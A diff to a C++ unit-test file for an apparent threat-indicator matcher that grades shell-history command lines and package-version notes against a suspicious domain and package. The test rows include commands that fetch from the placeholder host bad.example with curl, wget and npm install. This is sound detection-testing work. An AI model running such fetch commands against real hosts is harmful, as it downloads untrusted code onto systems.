@@ -405,6 +405,27 @@ TEST(Research, OfAnAnalystIsExplainedButContactIsNot) {
   expect_counts(contact.finding(), Grade::contacted);
 }
 
+TEST(SearchCommand, OfATypedLineTheCommandThatNamesTheValueTells) {
+  struct Row {
+    std::string_view line;
+    Grade grade;
+  };
+  for (const Row& row :
+       {Row{"npm test; grep -r bad.example node_modules", Grade::mentioned},
+        Row{"cd /srv && sudo grep bad.example x | head", Grade::mentioned},
+        Row{"grep x /var/log/y; curl https://bad.example/a", Grade::executed},
+        Row{"curl https://bad.example/a; grep bad.example x", Grade::executed},
+        Row{"grep bad.example x && wget bad.example/a", Grade::executed},
+        Row{"pip list | grep bad.example", Grade::mentioned}, Row{"npm view bad.example", Grade::mentioned},
+        Row{"npm install bad.example", Grade::executed}}) {
+    Scene scene(ValueType::domain, "bad.example");
+    scene.file("shell_history")
+        .sighting(event_of(EventClass::process_activity, noon, {{Attribute::process_cmd_line, row.line}}),
+                  {Attribute::process_cmd_line});
+    EXPECT_EQ(scene.finding().grade, row.grade) << row.line;
+  }
+}
+
 TEST(SearchCommand, IsExplainedOnAnyDeviceAndAFetchCounts) {
   const auto command = [](std::string_view path, std::string_view line) {
     return event_of(
@@ -642,10 +663,16 @@ TEST(Package, OfAVersionThatWasNotPublishedIsNotMeant) {
     std::string_view note, version;
     bool explained;
   };
-  for (const Row& row : {Row{"2.4.1 (npm)", "2.4.0", true}, Row{"2.4.1 (npm)", "2.4.1", false},
-                         Row{"versions 2.4.1, v2.4.2.", "2.4.2", false}, Row{"versions 2.4.1, v2.4.2.", "2.5.0", true},
-                         Row{"2.4.1 and earlier", "2.4.0", false}, Row{"<2.4.1", "2.4.0", false},
-                         Row{"", "2.4.0", false}, Row{"malicious package", "2.4.0", false}}) {
+  for (const Row& row :
+       {Row{"2.4.1 (npm)", "2.4.0", true}, Row{"2.4.1 (npm)", "2.4.1", false},
+        Row{"versions 2.4.1, v2.4.2.", "2.4.2", false}, Row{"versions 2.4.1, v2.4.2.", "2.5.0", true},
+        Row{"2.4.1 and earlier", "2.4.0", false}, Row{"<2.4.1", "2.4.0", false}, Row{"", "2.4.0", false},
+        Row{"malicious package", "2.4.0", false},
+        Row{"From 1 May to 3 May 2026 the versions 2.4.1 and 2.4.2 of it held code that read tokens.", "2.4.0", true},
+        Row{"From 1 May to 3 May 2026 the versions 2.4.1 and 2.4.2 of it held code that read tokens.", "2.4.2", false},
+        Row{"The versions 2.4.1 to 2.4.6 held code that read tokens.", "2.4.3", false},
+        Row{"The versions 2.4.1 and all later ones held such code.", "2.5.0", false},
+        Row{"Upgrade to 2.4.3: the version 2.4.1 held such code.", "2.4.0", false}}) {
     Scene scene(ValueType::package, "left-pod");
     scene.indicators[0].note = row.note;
     scene.file("npm_lock")
